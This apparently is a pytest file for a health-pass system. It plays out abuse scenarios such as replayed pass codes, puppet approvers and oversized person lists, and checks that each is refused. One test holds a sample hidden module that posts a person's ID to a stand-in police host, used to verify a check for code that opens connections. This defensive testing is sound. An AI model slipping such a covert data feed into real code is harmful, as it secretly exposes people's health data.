"""The book of abuses, played: each try is refused or harmless, and what is left of it."""

import ast
import base64
import pkgutil
import uuid
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from rest_framework.test import APIClient

from config.kernel import clock
from config.kernel.approvals.approve import approve_request
from config.kernel.approvals.models import ApprovalRequest
from config.kernel.approvals.request import request_approval
from config.kernel.approvals.rules import CheckerMadeByMaker
from config.kernel.approvals.sponsors import record_sponsor
from config.kernel.approvals.values import SponsorAct
from config.kernel.audit.models import AuditEvent
from config.kernel.data_flows import FLOWS
from config.kernel.errors import Conflict
from healthcode.abuses.queries import abuses
from healthcode.appeals.models import Appeal
from healthcode.appeals.usecases.erase_person import erase_person
from healthcode.appeals.usecases.file_appeal import file_appeal
from healthcode.decisions.fhir import ReportUnreadable
from healthcode.decisions.models import (
    Alarm,
    ErasureStub,
    Head,
    Laboratory,
    Override,
    PersonList,
)
from healthcode.decisions.rules import MAX_LISTED_A_DAY, ListRefused, TooManyAtOnce
from healthcode.decisions.usecases.import_list import import_list
from healthcode.decisions.usecases.receive_report import receive_report
from healthcode.decisions.usecases.register_source import SourceRefused
from healthcode.decisions.values import MAX_BATCH
from healthcode.evidence.models import Evidence
from healthcode.evidence.values import EvidenceKind
from healthcode.passes.usecases.import_certificate import CertificateTaken, import_certificate
from healthcode.subjects.values import Identity
from healthcode.verification.models import AccessLogEntry, CheckIn, Verification
from tests.contracts.source import ROOT, Module, opens_connections
from tests.factories.foreign import dsc, negative_test
from tests.factories.health import (
    Gate,
    Person,
    later,
    make_gate,
    make_person,
    make_phone,
    settle,
)
from tests.factories.operators import make_checker, make_maker
from tests.factories.overrides import grounds
from tests.factories.reports import observation, signed
from tests.factories.rule_sets import LENIENT, lenient
from tests.factories.shows import make_bearer
from tests.factories.sources import make_issuer, make_laboratory

pytestmark = pytest.mark.django_db(transaction=True)
DEPOSITORS = 1317


def colours() -> set[str]:
    return set(Head.objects.values_list("decision__colour", flat=True))


def outcome(answer: Any) -> tuple[int, str]:
    content = answer.json()
    return answer.status_code, content.get("verdict") or content["code"]


def ask_for_list(people: list[str], **changes: Any) -> ApprovalRequest:
    facts = {
        "subjects": people, "kind": "contact", "days": 3, "case_reference": "HZ-2020-17",
        "purpose": "passengers of flight CA1", **changes,
    }  # fmt: skip
    maker = make_maker(f"mia-{uuid.uuid4().hex[:8]}", "health.import_list")
    return request_approval(
        action="health.import_list", parameters=facts, reason="named by the bank", maker=maker
    )


def nothing_was_asked(action: str) -> bool:
    audited = AuditEvent.objects.filter(action=action).exists()
    return not ApprovalRequest.objects.exists() and not audited


def depositors_by_hand() -> None:
    people = [make_person() for _ in range(MAX_BATCH + 1)]
    named = {str(person.subject_id): [str(grounds(person).id)] for person in people}
    settle()
    facts = {
        "subjects": named, "colour": "RED", "hours": 24, "reason_code": "OUTBREAK_ORDER",
        "legal_basis": "Order 12 of the county",
    }  # fmt: skip
    maker = make_maker("mia", "health.recolour_many")
    with pytest.raises(TooManyAtOnce):
        request_approval(
            action="health.recolour_many", parameters=facts, reason="an outbreak", maker=maker
        )
    assert nothing_was_asked("health.recolour_many")
    assert not Override.objects.exists()
    assert colours() == {"YELLOW"}


def depositors_by_list() -> None:
    person = make_person()
    strangers = [str(uuid.uuid4()) for _ in range(DEPOSITORS - 1)]
    with pytest.raises(TooManyAtOnce) as refused:
        ask_for_list([str(person.subject_id), *strangers])
    assert refused.value.field == "subjects"
    no_list_stands()


def no_list_stands() -> None:
    assert nothing_was_asked("health.import_list")
    assert not PersonList.objects.exists()
    assert APIClient().get("/api/v1/health/statistics").json()["lists"] == []
    assert colours() == {"GREEN"}


def lists_of_a_day() -> None:
    people = [str(make_person().subject_id) for _ in range(3)]
    PersonList.objects.create(
        kind="contact", case_reference="HZ-2020-16", purpose="passengers of flight CA1",
        people=MAX_LISTED_A_DAY - 2, imported_at=clock.now(), maker="mia",
        checkers=["carl", "cora"], approval_id=uuid.uuid4(),
        expires_at=clock.now() + timedelta(days=1),
    )  # fmt: skip
    with pytest.raises(TooManyAtOnce) as refused:
        ask_for_list(people)
    assert refused.value.fields["limit"] == MAX_LISTED_A_DAY < DEPOSITORS
    assert nothing_was_asked("health.import_list")
    with pytest.raises(TooManyAtOnce):
        import_list(
            subjects=[uuid.UUID(name) for name in people], kind="contact", days=3,
            case_reference="HZ-2020-17", purpose="passengers of flight CA1", maker="mia",
            checkers=["carl", "cora"], approval_id=uuid.uuid4(),
        )  # fmt: skip
    assert PersonList.objects.count() == 1
    assert colours() == {"GREEN"}


def list_without_end() -> None:
    person = str(make_person().subject_id)
    for changes in ({"days": 15}, {"days": None}, {"case_reference": ""}, {"purpose": "because"}):
        with pytest.raises(ListRefused) as refused:
            ask_for_list([person], **changes)
        assert refused.value.field == next(iter(changes))
    no_list_stands()


def remote_gate() -> None:
    gate, person = make_gate(), make_person()
    body = {
        "document_type": person.identity.document_type,
        "document_number": person.identity.document_number,
    }
    answer = gate.client().post("/api/v1/health/cards/verify", body, format="json")
    assert outcome(answer) == (200, "ADMITTED")
    assert not CheckIn.objects.exists()
    assert Verification.objects.get().lookup
    assert AccessLogEntry.objects.get(subject=person.subject).by == "Library, Gate 1"


def own_laboratory() -> None:
    make_person()
    for checkers in ([], ["mia"]):
        with pytest.raises(SourceRefused):
            make_laboratory("Mine", maker="mia", checkers=checkers)
    assert not Laboratory.objects.exists()
    assert not AuditEvent.objects.filter(action__contains="laboratory").exists()
    assert colours() == {"GREEN"}


def said_at(gate: Gate, show: str) -> tuple[int, str]:
    return outcome(gate.verify(show))


def screenshots() -> None:
    picture = make_bearer(make_person()).show(at=clock.now() - timedelta(seconds=91))
    assert said_at(make_gate(), picture) == (410, "code_expired")
    assert Verification.objects.get().verdict == "EXPIRED"
    assert not CheckIn.objects.exists()


def photographed_shows() -> None:
    show = make_bearer(make_person()).show()
    assert said_at(make_gate("Library"), show) == (200, "ADMITTED")
    assert said_at(make_gate("Museum"), show) == (409, "code_replayed")
    said = list(Verification.objects.order_by("id").values_list("verdict", flat=True))
    assert said == ["ADMITTED", "REPLAYED"]
    assert CheckIn.objects.count() == 1


def appeal_ignored() -> None:
    file_appeal(subject=make_person().subject, grounds="this is not right")
    later(hours=24)
    later(hours=24)
    appeal = Appeal.objects.get()
    assert (appeal.overdue, appeal.state) == (True, "OPEN")
    assert [alarm.kind for alarm in Alarm.objects.all()] == ["APPEAL_OVERDUE"]
    assert AuditEvent.objects.filter(action="health.alarm").count() == 1


def twins_certificates() -> None:
    make_issuer("France", certificate=base64.b64encode(dsc()).decode())
    first, twin = make_person(), make_person()
    row = {
        "tg": "840539006", "tt": "LP6464-4", "tr": "260415000", "sc": clock.now().isoformat(),
        "ci": "URN:UVCI:1",
    }  # fmt: skip
    import_certificate(subject=first.subject, payload=negative_test(t=[row]))
    with pytest.raises(CertificateTaken) as taken:
        import_certificate(subject=twin.subject, payload=negative_test(t=[row], ver="1.3.1"))
    assert isinstance(taken.value, Conflict)
    assert taken.value.code == "certificate_taken"
    found = Evidence.objects.filter(source="certificate").values_list("subject_id", flat=True)
    assert list(found) == [first.subject_id]


def antibodies_as_infection() -> None:
    make_laboratory()
    person: Person = make_person()
    code = {"coding": [{"system": "http://loinc.org", "code": "94563-4"}]}
    with pytest.raises(ReportUnreadable) as unreadable:
        receive_report(signed=signed(observation(person, code=code)))
    settle()
    assert unreadable.value.field == "code"
    assert not Evidence.objects.filter(source="laboratory").exists()
    assert colours() == {"GREEN"}


def second_account() -> None:
    person = make_person()
    person.evidence(EvidenceKind.NAAT, result="positive")
    settle()
    erase_person(subject_id=person.subject_id, actor="subject", purpose="on request")
    assert ErasureStub.objects.count() == 1

    class Again(Person):
        @property
        def identity(self) -> Identity:
            return person.identity

    assert Again().declare().colour == "RED"
    assert not ErasureStub.objects.exists()


def region_shopping() -> None:
    lenient()
    person = make_person()
    person.evidence(EvidenceKind.NAAT, result="positive")
    settle()
    for number, region in enumerate((LENIENT, "330100", LENIENT)):
        assert person.declare(key=f"moved {number}", region=region).colour == "RED"
    moves = Evidence.objects.filter(kind=EvidenceKind.RELOCATION).order_by("id")
    assert [move.payload["to"] for move in moves] == [LENIENT, "330100", LENIENT]


def puppet_operators() -> None:
    request = ask_for_list([str(make_person().subject_id)])
    maker, puppet = User.objects.get(), make_checker("puppet", "health.import_list")
    record_sponsor(operator=puppet, sponsors=[maker], act=SponsorAct.CREATED)
    before = request.status
    with pytest.raises(CheckerMadeByMaker):
        approve_request(request_id=request.id, checker=puppet)
    request.refresh_from_db()
    assert request.status == before
    assert not PersonList.objects.exists()
    assert APIClient().get("/api/v1/health/statistics").json()["lists"] == []
    assert colours() == {"GREEN"}


def police_feed() -> None:
    hidden = "import requests\nrequests.post('//police.example', json={'id': 1})"
    assert opens_connections(Module(ROOT / "healthcode/report.py", ast.parse(hidden), 1))
    flows = APIClient().get("/api/v1/health/privacy").json()["flows"]
    assert {flow["name"] for flow in flows} == {flow.name for flow in FLOWS}
    assert not [flow for flow in flows if "police" in str(flow).lower()]


def shared_keys() -> None:
    person, phone = make_person(), make_phone()
    scanner = APIClient()
    scanner.credentials(HTTP_AUTHORIZATION=f"Bearer {person.code()}")
    assert scanner.get("/api/v1/health/me").status_code == 401
    token = vars(phone.client)["_credentials"]["HTTP_AUTHORIZATION"].removeprefix("Bearer ")
    assert said_at(make_gate(), token)[0] == 400
    assert Verification.objects.get().verdict == "UNREADABLE"
    assert not CheckIn.objects.exists()


PLAYERS = {
    player.__name__.replace("_", "-"): player
    for player in (
        depositors_by_hand, depositors_by_list, lists_of_a_day, list_without_end, remote_gate,
        own_laboratory, screenshots, photographed_shows, appeal_ignored, twins_certificates,
        antibodies_as_infection, second_account, puppet_operators, police_feed, shared_keys,
        region_shopping,
    )
}  # fmt: skip


# What each guard is replaced by to play the time before it; those that are a constraint of the
# database or a whole missing feature cannot be taken away and are told in words alone.
BEFORE: dict[str, dict[str, object]] = {
    "depositors-by-hand": {
        "healthcode.decisions.rules.check_batch": lambda size: None,
    },
    "lists-of-a-day": {"healthcode.decisions.rules.MAX_LISTED_A_DAY": 10_000},
    "list-without-end": {"healthcode.decisions.rules.MAX_LIST_DAYS": 10_000},
    "screenshots": {"healthcode.codec.sh1.SHOW_SKEW": timedelta(days=9)},
    "photographed-shows": {
        "healthcode.verification.replays.is_first": lambda *_, **__: True,
    },
    "antibodies-as-infection": {
        "healthcode.decisions.fhir.NAAT_CODES": frozenset({"94563-4"}),
    },
    "appeal-ignored": {
        "healthcode.appeals.tasks.mark_overdue": lambda **_: False,
    },
    "second-account": {
        "healthcode.appeals.usecases.erase_person.keep_stub": lambda **_: None,
    },
    "region-shopping": {"healthcode.decisions.residence.moves_among": lambda *_, **__: []},
}


@pytest.mark.slow
@pytest.mark.parametrize("name", BEFORE)
def test_without_its_guard_the_abuse_succeeds(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    for path, replacement in BEFORE[name].items():
        monkeypatch.setattr(path, replacement)
    # What the player asserts of the outcome is what fails: nothing refused the try.
    with pytest.raises((AssertionError, pytest.fail.Exception)):
        PLAYERS[name]()


@pytest.mark.parametrize("name", PLAYERS)
def test_the_abuse_is_refused_or_harmless(name: str) -> None:
    PLAYERS[name]()


def test_every_scenario_of_the_book_has_its_player_and_says_all() -> None:
    book = abuses()
    assert {abuse.name for abuse in book} == set(PLAYERS)
    assert [abuse.name for abuse in book if not all(vars(abuse).values())] == []
    for abuse in book:
        assert pkgutil.resolve_name(abuse.guard) is not None


def test_the_command_prints_each_and_how_many(capsys: pytest.CaptureFixture[str]) -> None:
    call_command("abuses")
    *rows, last = capsys.readouterr().out.splitlines()
    assert [row.split(" | ")[0] for row in rows] == sorted(PLAYERS)
    assert last == f"{len(PLAYERS)} abuses"
